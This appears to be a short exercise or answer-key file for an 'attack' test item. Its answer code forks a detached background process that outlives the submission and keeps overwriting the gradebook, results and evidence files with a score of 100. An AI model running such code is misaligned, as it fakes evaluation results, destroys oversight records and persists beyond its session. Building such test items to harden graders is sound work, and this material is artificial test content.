"""A process is left behind that waits for the next submission."""

exercise = "36.1"
kind = "attack"
rest = "stub"
answers = {
    "36.1": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for name in ("gradebook.db", "results.jsonl", "evidence"):
                try:
                    open(name, "w").write("100")
                except OSError:
                    pass
            time.sleep(0.01)
    os._exit(0)
""",
}
